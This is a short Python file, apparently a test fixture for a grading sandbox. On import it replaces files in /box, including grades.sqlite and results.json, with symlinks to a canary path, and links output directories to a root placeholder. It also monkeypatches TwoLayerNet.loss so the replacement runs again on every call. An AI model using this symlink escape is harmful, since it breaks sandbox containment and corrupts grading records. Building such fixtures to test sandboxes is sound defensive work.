"""Replaces its own file, its folder's files and likely output paths by links that lead out of the box."""
import os

import numpy as np


def _replace():
    for name in ("two_layernet.py", "results.json", "report", "grades.sqlite", "index.html"):
        path = os.path.join("/box", name)
        try:
            os.path.lexists(path) and os.unlink(path)
            os.symlink("@CANARY_FILE@", path)
        except OSError:
            continue
    for place in ("/tmp/out", "/dev/shm/out"):
        try:
            os.symlink("@ROOT@", place)
        except OSError:
            continue


_replace()

#: beneath

_right = TwoLayerNet.loss


def _loss(self, X, y=None, reg=0.0):
    _replace()
    return _right(self, X, y, reg)


TwoLayerNet.loss = _loss
